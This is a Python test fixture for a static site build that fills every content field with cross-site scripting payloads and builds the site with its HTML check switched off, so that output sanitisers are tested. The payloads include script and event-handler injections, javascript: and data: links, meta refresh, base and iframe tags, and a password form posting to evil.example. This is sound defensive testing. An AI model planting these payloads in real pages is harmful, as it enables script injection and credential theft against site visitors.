"""A hostile site: every string field of every content and site-data model filled with values that try to
break out of their output (script, quotes, `&` and `<`, CR/LF, bidi controls), found by walking the models'
`model_fields`, so a new field is covered without touching this file. Shared by tests/test_escaping.py
(parsers) and tests/browser/test_escaping_in_browser.py (chromium).
"""

from __future__ import annotations

import gc
import io
import types
import typing
import unicodedata
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

import pytest
import yaml
from PIL import Image
from pydantic import BaseModel, TypeAdapter, ValidationError
from pydantic.fields import FieldInfo
from sitebuild import BUILD_DATE, REPO, SAMPLE

from bench.synthetic import copy_parts
from coplimburg.content.events import Event
from coplimburg.content.fields import LOADER_FIELDS, Item, invisible_character
from coplimburg.content.posts import Post
from coplimburg.content.products import Product
from coplimburg.content.sitedata import Matrix, PartnerFile, ProgrammeFile, Vocabularies
from coplimburg.content.tables import Table

# What a hostile editor (or a pasted text) may put into any field. The payloads only set a flag, so the
# browser can tell whether anything ran; `R&D <concept>` is what an honest title looks like. Of the control
# characters only tab is injected: XML 1.0 cannot carry the other C0 controls at all, so the loader is to
# refuse them at the edge (no output could show them), and line breaks are added where the field takes them.
PAYLOAD = (
    "<script>window.__pwned='script'</script><img src=x onerror=\"window.__pwned='img'\">"
    "\"' onmouseover=\"window.__pwned='attr'\" R&D <concept> \u202eeulb\u202c \u200fx\tx"
)
LINE_BREAKS = "\nna regel\n\nna een witregel"
# A link that keeps https:// and tries to break out of its attribute with a single quote (the loader refuses
# addresses with `"`, `<`, `>`, a backslash or a user name: tests/test_addresses.py).
HOSTILE_URL = "https://example.org/a'onmouseover='window.__pwned=`url`'&x=%3Cb%3E"
# Everything an editor could write in a text that must not reach a page, a feed or an e-mail: scripts, handlers,
# scripting and data addresses, refresh, base, frames, forms, styles, ids the theme uses, attribute lists and
# images from elsewhere (every address elsewhere is on evil.example). `cop check` refuses each
# (tests/test_body_html.py); the hostile site is built with that check switched off, so what reaches the outputs
# is up to the sanitisers at the sink. Inline code and a fenced block show the same HTML as text, which must stay.
HOSTILE_BODY = """Tekst met [link](javascript:window.__pwned='md') en [data](data:text/html;base64,PHNjcmlwdD4=).

<script>window.__pwned='script';alert('script')</script>

<img src="https://evil.example/pixel.png" alt="pixel" onerror="window.__pwned='img';alert('img')">

![volgpixel](https://evil.example/volg.png)

<p><a href="javascript:window.__pwned='a'">a</a> <a href="data:text/html,x">d</a> <a href="vbscript:msgbox(1)">v</a>
<a href="https://www.leijgraaf.nl\\@evil.example/">backslash</a> <a href="https://leijgraaf.nl@evil.example/">gebruiker</a></p>

<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/stijl.css">

<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/object"></object>
<embed src="https://evil.example/embed">

<form action="https://evil.example/form"><input type="password" name="wachtwoord"><button>Inloggen</button></form>

<p style="background:url(javascript:window.__pwned='css')">stijl</p>
<div id="__config" name="__md_scope">{}</div>
<details open ontoggle="window.__pwned='toggle';alert('toggle')"><summary>meer</summary>x</details>

<svg onload="window.__pwned='svg'"><a xlink:href="javascript:window.__pwned='svg'"><text>svg</text></a></svg>
<math><mi xlink:href="javascript:window.__pwned='math'">m</mi></math>

Alinea met attributen
{: onclick="window.__pwned='attr_list'" style="background:url(https://evil.example/stijl.png)" }

## Kop {: #__search onmouseover="window.__pwned='heading'" }

Code blijft tekst: `<script>window.__pwned='code'</script>`.

```html
<script>window.__pwned='fence'</script>
```
"""
# What the sanitisers keep of HOSTILE_BODY's code: as text.
HOSTILE_CODE = ("<script>window.__pwned='code'</script>", "<script>window.__pwned='fence'</script>\n")
EVIL_HOST = "evil.example"
# The pages that show HOSTILE_BODY: one item of each collection and the docs page that mixes it with macros.
BODY_PAGES = (
    "innovatietafels/tafel-a/",
    "agenda/evenement-a/",
    "coppyright/product-a/",
    "coppig/nieuws/bericht-a/",
    "gemengd/",
)
# File names are content too: images and downloads with a quote, an angle bracket and an ampersand.
HOSTILE_FILE = "x\"'<b>&y"
MODELS: dict[str, type[BaseModel]] = {
    "tables": Table,
    "events": Event,
    "products": Product,
    "posts": Post,
    "partners.yml": PartnerFile,
    "vocabularies.yml": Vocabularies,
    "programme.yml": ProgrammeFile,
    "matrix.yml": Matrix,
}
OUTPUTS = ("html", "rss", "atom", "json", "email", "ics")


def _accepted(info: FieldInfo, value: str) -> bool:
    """Whether the loader takes `value` in this field: it refuses control characters that outputs cannot carry
    (a carriage return, bidi overrides; tests/test_loading_limits.py) everywhere and line breaks in one-line
    fields (then only the rest of the payload is injected there)."""
    if invisible_character(value):
        return False
    try:
        TypeAdapter(typing.Annotated[info.annotation, info]).validate_python(value)  # type: ignore[name-defined]
    except ValidationError:
        return False
    return True


def max_length(info: FieldInfo) -> int | None:
    """The most characters a text field takes (its JSON Schema's maxLength), or None without a limit."""
    schema = TypeAdapter(typing.Annotated[info.annotation, info]).json_schema()  # type: ignore[name-defined]
    found = [option["maxLength"] for option in (schema, *schema.get("anyOf", ())) if "maxLength" in option]
    return min(found, default=None)


@dataclass
class Hostile:
    """Every hostile string written into the tree, by dotted field name, and what the tree refers to."""

    values: dict[str, str] = field(default_factory=dict)
    count: int = 0

    def text(self, name: str, info: FieldInfo) -> str:
        self.count += 1
        # A field with a length limit gets as much of the payload as it takes (the limit is checked elsewhere).
        limit = max_length(info) or len(PAYLOAD) * 2
        value = f"V{self.count:03d} {PAYLOAD}"[:limit]
        with_breaks = f"V{self.count:03d}{LINE_BREAKS} {PAYLOAD}"[:limit]
        if _accepted(info, with_breaks):
            value = with_breaks
        elif not _accepted(info, value):
            value = (f"V{self.count:03d} " + "".join(c for c in PAYLOAD if not invisible_character(c)))[:limit]
        self.values[name] = value
        return value


def _is_str(annotation: Any) -> bool:
    return annotation is str or (typing.get_origin(annotation) is typing.Annotated and _is_str(annotation.__args__[0]))


def _options(annotation: Any) -> list[Any]:
    if typing.get_origin(annotation) in (typing.Union, types.UnionType):
        return [one for one in typing.get_args(annotation) if one is not type(None)]
    return [annotation]


def fill(model: type[BaseModel], name: str, hostile: Hostile, fixed: dict[str, Any]) -> dict[str, Any]:
    """A front-matter mapping for `model`: every free string field hostile, references and ids from `fixed`."""
    data: dict[str, Any] = {}
    for key, info in model.model_fields.items():
        if issubclass(model, Item) and key in LOADER_FIELDS:
            continue
        dotted = f"{name}.{key}"
        alias = info.alias or key
        if dotted in fixed:
            if fixed[dotted] is not None:
                data[alias] = fixed[dotted]
            continue
        value = _value(info.annotation, info, dotted, hostile, fixed)
        if value is not None:
            data[alias] = value
    return data


def _value(annotation: Any, info: FieldInfo, dotted: str, hostile: Hostile, fixed: dict[str, Any]) -> Any:
    annotation = _options(annotation)[0]
    origin = typing.get_origin(annotation)
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        return fill(annotation, dotted, hostile, fixed)
    if origin is list:
        inner = typing.get_args(annotation)[0]
        return [_value(inner, FieldInfo(annotation=inner), f"{dotted}[]", hostile, fixed)]
    if origin is dict:
        key_type, inner = typing.get_args(annotation)
        key = hostile.text(f"{dotted}{{key}}", FieldInfo(annotation=key_type))
        return {key: _value(inner, FieldInfo(annotation=inner), f"{dotted}{{}}", hostile, fixed)}
    if origin is Literal:
        return typing.get_args(annotation)[0]
    if _is_str(annotation) or annotation is str:
        if info.metadata and any(getattr(one, "pattern", None) for one in info.metadata):
            raise AssertionError(f"{dotted}: an id field needs a value in FIXED")
        return hostile.text(dotted, info)
    raise AssertionError(f"{dotted}: no hostile value for {annotation!r}; add it to FIXED")


# Fields that are not free text: ids and references (the loader holds them to a-z0-9-), dates, numbers,
# table codes, URLs (given HOSTILE_URL) and file paths (given HOSTILE_FILE). Everything else is hostile.
FIXED: dict[str, Any] = {
    "tables.code": "2A",
    "tables.lead.organisation": "partner-a",
    "tables.members": ["partner-a"],
    "tables.sounding_board": ["klankbord-a"],
    "events.start": "2026-12-10 13:00",
    "events.end": "2026-12-10 17:00",
    "events.online": HOSTILE_URL,
    "events.registration": HOSTILE_URL,
    "events.tables": ["tafel-a"],
    "events.partners": ["partner-a"],
    "events.previous_start": None,
    "events.published": "2026-11-01",
    "events.outcomes": ["product-a"],
    "events.repeat": None,
    "events.image": f"files/{HOSTILE_FILE}.png",
    "products.tables": ["tafel-a"],
    "products.partners": ["partner-a"],
    "products.audiences": ["doelgroep-a"],
    "products.levels": ["niveau-a"],
    "products.domains": ["domein-a"],
    "products.published": "2026-11-02",
    "products.updated": None,
    "products.image": f"files/{HOSTILE_FILE}.png",
    "products.files[].path": f"files/{HOSTILE_FILE}.txt",
    "posts.published": "2026-11-03",
    "posts.categories": ["categorie-a"],
    "posts.tables": ["tafel-a"],
    "posts.events": ["evenement-a"],
    "posts.image": f"files/{HOSTILE_FILE}.png",
    "partners.yml.partners[].id": "partner-a",
    "partners.yml.partners[].url": HOSTILE_URL,
    "vocabularies.yml.licenses{}.url": HOSTILE_URL,
    "programme.yml.programme[].year": 2026,
    "programme.yml.programme[].event": "evenement-a",
    "matrix.yml.columns[].id": "kolom-a",
    "matrix.yml.columns[].partner": "partner-a",
    "matrix.yml.groups[].rows[].who": ["kolom-a"],
}
# Vocabularies whose keys items refer to through a reference field (ids only).
ID_KEYED = {
    "sounding_board": "klankbord-a",
    "audiences": "doelgroep-a",
    "levels": "niveau-a",
    "domains": "domein-a",
    "news_categories": "categorie-a",
}


# One PNG pixel, so the image is a real image.
def _pixel() -> bytes:
    """A real one-pixel PNG: images are decoded and resized at build time (coplimburg.pages.images)."""
    out = io.BytesIO()
    Image.new("RGB", (1, 1), (0, 121, 107)).save(out, format="PNG")
    return out.getvalue()


PIXEL = _pixel()


def write_tree(content: Path) -> Hostile:
    """The hostile content tree; returns every hostile value by field."""
    hostile = Hostile()
    items = {
        "tables": ("tafel-a", fill(Table, "tables", hostile, FIXED)),
        "events": ("evenement-a", fill(Event, "events", hostile, FIXED)),
        "coppyright": ("product-a", fill(Product, "products", hostile, FIXED)),
        "news": ("bericht-a", fill(Post, "posts", hostile, FIXED)),
    }
    site = {name: fill(model, name, hostile, FIXED) for name, model in MODELS.items() if name.endswith(".yml")}
    vocabularies = site["vocabularies.yml"]
    # Items name a vocabulary entry by key: give each hostile key the one the item uses, or an id.
    events, products = items["events"][1], items["coppyright"][1]
    partner = site["partners.yml"]["partners"][0]
    for vocabulary, (item, key, dotted) in {
        "event_kinds": (events, "kind", "events.kind"),
        "types": (products, "type", "products.type"),
        "licenses": (products, "license", "products.license"),
        "partner_kinds": (partner, "kind", "partners.yml.partners[].kind"),
    }.items():
        item[key] = next(iter(vocabularies[vocabulary]))
        hostile.values.pop(dotted)
    for vocabulary, key in ID_KEYED.items():
        vocabularies[vocabulary] = {key: next(iter(vocabularies[vocabulary].values()))}
        hostile.values.pop(f"vocabularies.yml.{vocabulary}{{key}}")
    for name, data in site.items():
        (content / "site").mkdir(parents=True, exist_ok=True)
        (content / "site" / name).write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    for folder, (item_id, front) in items.items():
        (content / folder / "files").mkdir(parents=True, exist_ok=True)
        (content / folder / "files" / f"{HOSTILE_FILE}.png").write_bytes(PIXEL)
        (content / folder / "files" / f"{HOSTILE_FILE}.txt").write_text("download\n", encoding="utf-8")
        text = "---\n" + yaml.safe_dump(front, allow_unicode=True) + "---\n" + HOSTILE_BODY
        (content / folder / f"{item_id}.md").write_text(text, encoding="utf-8")
    return hostile


@dataclass(frozen=True)
class HostileSite:
    root: Path
    values: dict[str, str]


def build_hostile_site(folder: Path) -> HostileSite:
    """The sample project's docs and configuration beside the repository's hooks and templates, with a
    hostile content tree and a docs page mixing a macro with hostile HTML, built strictly with the check of HTML
    in texts switched off (`build_unchecked`)."""
    root = folder / "repo"
    copy_parts(REPO, root, ("overrides", "hooks"))
    project = root / "tests" / "sample"
    copy_parts(SAMPLE, project, ("docs", "mkdocs.yml"))
    # Pages whose macros name a sample vocabulary id ('bbl', 'onderzoek') that the hostile vocabularies do not have.
    for name in ("doelgroepen.md", "coproductie.md"):
        (project / "docs" / name).write_text("# " + name.removesuffix(".md") + "\n", encoding="utf-8")
    (project / "docs" / MIXED_PAGE).write_text(MIXED_SOURCE, encoding="utf-8")
    hostile = write_tree(project / "content")
    build_unchecked(project, project / "site")
    return HostileSite(project / "site", hostile.values)


# A docs page whose macros write our own HTML (classes, ARIA, data attributes) beside an editor's hostile HTML,
# some of it written through Jinja, which the check cannot see.
MIXED_PAGE = "gemengd.md"
MIXED_SOURCE = (
    "---\nrender_macros: true\n---\n# Gemengd\n\n{{ next_events(3) }}\n\n"
    '<p class="cop-macro" data-cop-upcoming role="list" aria-label="nagemaakt" onclick="window.__pwned=\'mixed\'">'
    "nagemaakt</p>\n\n{{ '<scr' ~ 'ipt>window.__pwned=\\'jinja\\'</scr' ~ 'ipt>' }}\n\n{{ partners_by_kind() }}\n\n"
    + HOSTILE_BODY
)


def build_unchecked(project: Path, site_dir: Path) -> None:
    """`mkdocs build --strict` of `project` in this process, with the loader's check of HTML in texts
    (coplimburg.content.rawhtml) switched off for this build only: whatever hostile HTML a text holds then reaches
    the sanitisers at the sink, which must stop it on their own. There is no switch for this outside the tests."""
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    from coplimburg.content import loader

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(loader, "check_body_html", lambda content, documents: [])
        patch.setenv("COP_BUILD_DATE", BUILD_DATE)
        patch.setenv("NO_MKDOCS_2_WARNING", "1")
        patch.setenv("SOURCE_DATE_EPOCH", "0")  # on_config sets it; undone with the rest
        patch.chdir(project)
        config = load_config(str(project / "mkdocs.yml"), site_dir=str(site_dir), strict=True)
        config.plugins.on_startup(command="build", dirty=False)
        try:
            build(config)
        finally:
            config.plugins.on_shutdown()
            gc.unfreeze()  # `mkdocs build` leaves what it loaded out of the collector (coplimburg.heap)


def plain(text: str) -> str:
    """Text as a reader sees it: line breaks and runs of space as one space, control characters gone."""
    kept = "".join(c for c in text if c.isspace() or unicodedata.category(c) != "Cc")
    return " ".join(kept.split())


def pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))
